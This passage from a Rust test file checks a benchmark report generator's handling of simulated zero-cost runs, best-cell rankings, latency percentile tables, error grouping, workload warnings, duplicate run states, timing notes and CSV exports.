    // It slept no think time, though its plan (the fixture's) replays it.
    assert!(
        inf_page.contains("Total Time and Avg/Traj hold no think time"),
        "{inf_page}"
    );
    let d = decimals(&inf_page);
    assert!(!d.is_empty() && d.iter().all(|&n| n == 4), "{d:?}");
    // An ordinary simulated run is not.
    let plain = write_run(tmp.path(), "plain", &tiny_spec("plain"));
    build(std::slice::from_ref(&plain), &site, None);
    assert!(!read(&site.join("index.html")).contains("No engine cost"));
    assert!(!read(&site.join("viewer.html")).contains("no engine cost"));
    let d = decimals(&read(&site.join("gpu-h100.html")));
    assert!(!d.is_empty() && d.iter().all(|&n| n == 2), "{d:?}");
}

#[test]
fn a_run_with_no_engine_cost_is_compared_with_nothing() {
    // Its times are the harness's own: ranking it (300,000 tok/s on any "GPU") or turning it
    // into cache-mode speed-ups would compare harness noise.
    let tmp = tempfile::tempdir().unwrap();
    let real = write_run(tmp.path(), "costed", &tiny_spec("costed"));
    let inf = write_run(tmp.path(), "nocost", &tiny_spec("nocost"));
    let path = inf.join("manifest.json");
    let mut m: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
    m["backend"]["sim"]["time_scale"] = 1.0.into();
    m["backend"]["sim"]["zero_cost"] = true.into();
    std::fs::write(&path, m.to_string()).unwrap();
    let site = tmp.path().join("site");
    build(&[real, inf], &site, None);
    let index = read(&site.join("index.html"));
    let section = |id: &str| {
        let t = &index[index.find(&format!("<table id=\"{id}\">")).unwrap()..];
        t[..t.find("</table>").unwrap()].to_string()
    };
    for id in ["best", "speedup"] {
        let t = section(id);
        assert!(t.contains("costed"), "{id}: {t}");
        assert!(!t.contains("nocost"), "{id}: {t}");
    }
    let charts = &index[index.find("Cross-GPU comparison").unwrap()..];
    assert!(
        charts.contains("h100 · costed"),
        "the other run's traces are drawn"
    );
    assert!(!charts.contains("h100 · nocost"), "{charts}");
    let note = &index[index.find("id=\"harness-runs\"").unwrap()..];
    let note = &note[..note.find("</p>").unwrap()];
    assert!(
        note.contains("run nocost") && !note.contains("costed,"),
        "{note}"
    );
    // Its GPU page still shows it, marked, and the banner says what the mark means.
    let gpu = read(&site.join("gpu-h100.html"));
    let heading = &gpu[gpu.find("<h2>Run nocost").unwrap()..];
    assert!(
        heading[..heading.find("</h2>").unwrap()].contains("no engine cost"),
        "{heading:.300}"
    );
    assert!(gpu.contains("their times are the harness's own"));
    // Alone, it has no best configuration to give.
    let alone = tmp.path().join("alone");
    build(
        std::slice::from_ref(&tmp.path().join("nocost")),
        &alone,
        None,
    );
    let index = read(&alone.join("index.html"));
    assert!(index.contains("every run had no engine cost"), "{index}");
    assert!(!index.contains("<table id=\"best\">"));
}

#[test]
fn the_best_row_names_the_next_best_cell_and_a_best_at_the_edge_of_the_grid() {
    // Recomputed here from the site's own summary export: the GPU's best and next best cell
    // by token throughput, the margin between them, and whether the best ran at the highest
    // concurrency tested.
    let tmp = tempfile::tempdir().unwrap();
    let mut spec = tiny_spec("ties");
    spec.concurrencies = vec![1, 2, 4];
    let run = write_run(tmp.path(), "ties", &spec);
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let csv = read(&site.join("data/summary.csv"));
    let mut lines = csv.lines();
    let head: Vec<&str> = lines.next().unwrap().split(',').collect();
    let col = |name: &str| head.iter().position(|h| *h == name).unwrap();
    let mut cells: Vec<(String, u32, f64)> = lines
        .map(|l| {
            let f: Vec<&str> = l.split(',').collect();
            (
                f[col("cache_mode")].to_string(),
                f[col("concurrency")].parse().unwrap(),
                f[col("output_tok_per_s")].parse().unwrap(),
            )
        })
        .collect();
    cells.sort_by(|a, b| b.2.total_cmp(&a.2));
    let (best, next) = (&cells[0], &cells[1]);
    let margin = 100.0 * (1.0 - next.2 / best.2);
    let index = read(&site.join("index.html"));
    let table = &index[index.find("<table id=\"best\">").unwrap()..];
    let row = &table[table.find("<tbody>").unwrap()..table.find("</tbody>").unwrap()];
    assert!(
        row.contains(&format!(
            "{} · c={} ({:.1}, −{:.1} %)",
            next.0, next.1, next.2, margin
        )),
        "next best {next:?} ({margin:.1} %) in {row}"
    );
    assert_eq!(row.contains("≈ "), margin < 5.0, "{row}");
    assert_eq!(
        row.contains("(highest tested)"),
        best.1 == 4,
        "{best:?}: {row}"
    );
}

#[test]
fn latency_tables_give_the_turns_their_percentiles_are_over() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "n", &tiny_spec("n"));
    // One turn whose TTFT was mostly outside the engine, so a cell's max is not its median.
    edit_turns(&run, |i, r| {
        if i == 0 {
            r.server_ttft = r.ttft.map(|t| t - 0.5);
        }
    });
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    // Successful turns with a TTFT per (mode, concurrency), and the part of each TTFT outside
    // the engine (TTFT − the server's own), from the records themselves.
    let mut n: std::collections::BTreeMap<(String, u64), u64> = Default::default();
    let mut outside: std::collections::BTreeMap<(String, u64), Vec<f64>> = Default::default();
    // (turns, turns the server retracted) per (mode, concurrency), failed ones included.
    let mut retracted: std::collections::BTreeMap<(String, u64), (u64, u64)> = Default::default();
    for line in read(&run.join("turns.jsonl")).lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        let r = retracted
            .entry((
                v["cache_mode"].as_str().unwrap().to_string(),
                v["concurrency"].as_u64().unwrap(),
            ))
            .or_default();
        r.0 += 1;
        r.1 += u64::from(v["retractions"].as_u64().unwrap() > 0);
        if v["error"].is_null() && v["ttft"].is_number() {
            let key = (
                v["cache_mode"].as_str().unwrap().to_string(),
                v["concurrency"].as_u64().unwrap(),
            );
            *n.entry(key.clone()).or_default() += 1;
            let o = v["ttft"].as_f64().unwrap() - v["server_ttft"].as_f64().unwrap();
            outside.entry(key).or_default().push(o);
        }
    }
    let page = read(&site.join("gpu-h100.html"));
    for ((mode, c), count) in &n {
        let at = page
            .find(&format!("Latency percentiles, cache mode {mode}<"))
            .unwrap();
        let table = &page[at..];
        let table = &table[..table.find("</table>").unwrap()];
        assert!(
            table.contains(&format!("<tr><td>{c}</td><td>{count}</td>")),
            "{mode} c={c}: n={count} in {table}"
        );
        let mut o = outside[&(mode.clone(), *c)].clone();
        o.sort_by(f64::total_cmp);
        let m = o.len();
        let median = if m % 2 == 1 {
            o[m / 2]
        } else {
            (o[m / 2 - 1] + o[m / 2]) / 2.0
        };
        let row = &table[table.find(&format!("<tr><td>{c}</td>")).unwrap()..];
        let row = &row[..row.find("</tr>").unwrap()];
        assert!(
            row.contains(&format!("<td>{:.1} (", median * 1e3)),
            "{mode} c={c}: outside the engine {median} in {row}"
        );
        let max = o[m - 1];
        assert!(
            row.contains(&format!("· max {:.1}</td>", max * 1e3)),
            "{mode} c={c}: outside the engine at most {max} in {row}"
        );
        let (turns, k) = retracted[&(mode.clone(), *c)];
        assert!(
            row.contains(&format!(
                "<td data-col=\"retracted\">{k} ({:.1} %)</td>",
                k as f64 / turns as f64 * 100.0
            )),
            "{mode} c={c}: {k} of {turns} retracted in {row}"
        );
        // Under 1,000 turns, the note says what a p99 rests on.
        let after = &page[at..];
        let note = &after[after.find("</table>").unwrap()..];
        assert!(note[..note.find("</p>").unwrap()].contains("slowest few"));
    }
    assert!(!n.is_empty());
    // Some cell had its turns retracted, and some none.
    assert!(retracted.values().any(|r| r.1 > 0) && retracted.values().any(|r| r.1 == 0));
}

#[test]
fn failures_that_differ_only_in_their_numbers_are_one_row() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "fails", &tiny_spec("fails"));
    // Two prompts too long (each names its own length), and an HTTP 500, in prefix c=1.
    let mut n = 0;
    edit_turns(&run, |_, r| {
        if r.cache_mode == turnbench_schema::CacheMode::Prefix && r.concurrency == 1 && r.turn == 2
        {
            r.error = Some(match n {
                0 => "server error: The input (5509 tokens) is longer than the model's context length (32768 tokens).".into(),
                1 => "server error: The input (6120 tokens) is longer than the model's context length (32768 tokens).".into(),
                _ => "HTTP 500: boom".into(),
            });
            n += 1;
        }
    });
    assert_eq!(n, 3);
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let page = read(&site.join("gpu-h100.html"));
    let table = &page[page.find("<table class=\"errors\">").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    let rows: Vec<&str> = table.split("<tr>").skip(2).collect();
    assert_eq!(rows.len(), 2, "{table}");
    assert!(
        rows.iter()
            .any(|r| r.contains("The input (N tokens) is longer") && r.contains("<td>2</td>")),
        "{table}"
    );
    assert!(
        table.contains("prefix c=1: HTTP 500: boom</td><td>1</td>"),
        "{table}"
    );
}

#[test]
fn runs_of_different_workloads_are_said_to_be_so_where_they_are_compared() {
    let tmp = tempfile::tempdir().unwrap();
    let a = write_run(tmp.path(), "a", &tiny_spec("a"));
    // The same workload again (another run id): nothing to say.
    let same = write_run(tmp.path(), "same", &tiny_spec("same"));
    let site = tmp.path().join("site");
    build(&[a.clone(), same], &site, None);
    assert!(!read(&site.join("index.html")).contains("id=\"workloads\""));
    // Longer trajectories: another workload, named with each run's.
    let mut longer = tiny_spec("longer");
    longer.turns += 2;
    let longer = write_run(tmp.path(), "longer", &longer);
    build(&[a, longer], &site, None);
    let index = read(&site.join("index.html"));
    let at = index.find("id=\"workloads\"").expect("a workload warning");
    let warning = &index[at..at + index[at..].find("</p>").unwrap()];
    for want in ["run a: ", "9 turns", "run longer: ", "15 turns"] {
        assert!(warning.contains(want), "{want}: {warning}");
    }
}

#[test]
fn a_run_given_in_an_earlier_state_too_is_used_once_in_its_latest() {
    // A bundle packed part-way and the run finished later: one run, not two sharing cells.
    let tmp = tempfile::tempdir().unwrap();
    let done = write_run(tmp.path(), "done", &tiny_spec("r"));
    let early = tmp.path().join("early");
    std::fs::create_dir(&early).unwrap();
    for f in ["manifest.json", "telemetry.jsonl"] {
        std::fs::copy(done.join(f), early.join(f)).unwrap();
    }
    let turns = read(&done.join("turns.jsonl"));
    let first: Vec<&str> = turns.lines().take(10).collect();
    std::fs::write(early.join("turns.jsonl"), first.join("\n") + "\n").unwrap();
    let total = turns.lines().count();
    for inputs in [[early.clone(), done.clone()], [done.clone(), early.clone()]] {
        let site = tmp.path().join("site");
        let report = build(&inputs, &site, None);
        assert_eq!(report.runs, 1);
        assert_eq!(report.skipped.len(), 1);
        let skipped = &report.skipped[0];
        assert_eq!(skipped.source, early.display().to_string());
        assert!(
            skipped
                .reason
                .contains("an earlier state of run r (10 turn records")
                && skipped.reason.contains(&format!("has {total})")),
            "{}",
            skipped.reason
        );
        // Every cell once, with all of its turns.
        let csv = read(&site.join("data/summary.csv"));
        assert_eq!(csv.lines().count(), 1 + 4, "{csv}");
    }
    // A run of another start sharing the id is another run (a shard), not an earlier state.
    let other = tmp.path().join("other");
    std::fs::create_dir(&other).unwrap();
    let manifest = read(&done.join("manifest.json"));
    let created = serde_json::from_str::<serde_json::Value>(&manifest).unwrap()["created"]
        .as_str()
        .unwrap()
        .to_string();
    std::fs::write(
        other.join("manifest.json"),
        manifest.replace(&created, "1999-01-01T00:00:00Z"),
    )
    .unwrap();
    std::fs::write(other.join("turns.jsonl"), first.join("\n") + "\n").unwrap();
    let report = build(&[done, other], &tmp.path().join("site"), None);
    assert_eq!(report.runs, 2);
}

#[test]
fn gpu_pages_say_what_clock_the_times_are_on_and_what_they_hold() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "clock", &tiny_spec("clock"));
    let manifest_path = run.join("manifest.json");
    let manifest: serde_json::Value = serde_json::from_str(&read(&manifest_path)).unwrap();
    let scale = manifest["backend"]["sim"]["time_scale"].as_f64().unwrap();
    assert_eq!(manifest["plan"]["think_time"], "replay");
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let page = read(&site.join("gpu-h100.html")).replace("&#39;", "'");
    assert!(
        page.contains(&format!(
            "Times are engine time: the simulator's clock, wall time × {scale}"
        )),
        "{page}"
    );
    assert!(page.contains("Total Time and Avg/Traj hold the dataset's tool time, slept between turns (think time replay), included"));
    // Telemetry is sampled every wall second, which the engine-time axes stretch.
    assert!(page.contains(&format!(
        "sampled every wall-clock second, so every {scale} s of the engine time"
    )));
    // Cells of a few turns: the TTFT trade-off chart plots the p90 the latency note says to
    // compare by, not a p99 that rests on the slowest turn or two.
    assert!(page.contains("Throughput vs TTFT p90"));
    assert!(!page.contains("Throughput vs TTFT p99"));

    // Another setting of each, read from the manifest as written.
    let mut manifest = manifest;
    manifest["plan"]["think_time"] = "scale=0.5".into();
    manifest["backend"]["sim"]["time_scale"] = 0.5.into();
    std::fs::write(&manifest_path, manifest.to_string()).unwrap();
    build(std::slice::from_ref(&run), &site, None);
    let page = read(&site.join("gpu-h100.html")).replace("&#39;", "'");
    assert!(page.contains("wall time × 0.5,"), "{page}");
    assert!(
        page.contains("the dataset's tool time × 0.5, slept between turns (think time scale=0.5)")
    );
    assert!(page.contains("sampled every wall-clock second, so every 0.5 s of the engine time"));
    manifest["plan"]["think_time"] = "off".into();
    std::fs::write(&manifest_path, manifest.to_string()).unwrap();
    build(&[run], &site, None);
    let page = read(&site.join("gpu-h100.html")).replace("&#39;", "'");
    assert!(page.contains("no think time between turns (think time off)"));
}

#[test]
fn cells_of_a_thousand_turns_and_more_plot_the_ttft_p99() {
    let tmp = tempfile::tempdir().unwrap();
    let mut spec = tiny_spec("big");
    spec.modes = vec![
        turnbench_schema::CacheMode::Prefix,
        turnbench_schema::CacheMode::None,
    ];
    spec.concurrencies = vec![1];
    spec.trajectories = 50;
    spec.turns = 20;
    let run = write_run(tmp.path(), "big", &spec);
    let site = tmp.path().join("site");
    build(&[run], &site, None);
    let page = read(&site.join("gpu-h100.html"));
    assert!(page.contains("Throughput vs TTFT p99"));
    assert!(!page.contains("Throughput vs TTFT p90"));
}

#[test]
fn the_csv_exports_hold_the_servers_ttft_and_whole_token_counts() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "csv", &tiny_spec("csv"));
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    // Each row of a CSV export by its column names.
    let rows = |file: &str| -> Vec<std::collections::HashMap<String, String>> {
        csv::Reader::from_path(site.join(file))
            .unwrap()
            .deserialize()
            .map(Result::unwrap)
            .collect()
    };
    let records: Vec<turnbench_schema::TurnRecord> = read(&run.join("turns.jsonl"))
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let turns = rows("data/turns.csv");
    assert_eq!(turns.len(), records.len());
    let mut with_server = 0;
    for (row, r) in turns.iter().zip(&records) {
        assert_eq!(row["turn"], r.turn.to_string());
        match r.server_ttft {
            Some(v) => {
                with_server += 1;
                let got: f64 = row["server_ttft"].parse().unwrap();
                assert!((got - v).abs() <= 1e-6, "{got} vs {v}");
            }
            None => assert_eq!(row["server_ttft"], ""),
        }
    }
    assert!(with_server > 0, "the fixture has no server TTFT");
    let summary: turnbench_schema::Summary =
        serde_json::from_str(&read(&run.join("summary.json"))).unwrap();
    let cells = rows("data/summary.csv");
    assert_eq!(cells.len(), summary.cells.len());
    for row in cells {
        let cell = summary
            .cells
            .iter()
            .find(|c| {
                c.gpu == row["gpu"]
                    && c.cache_mode.as_str() == row["cache_mode"]
                    && c.concurrency.to_string() == row["concurrency"]
            })
            .unwrap();
        // A count, written as one.
        assert_eq!(
            row["total_output_tokens"],
            cell.total_output_tokens.to_string()
        );
    }
}
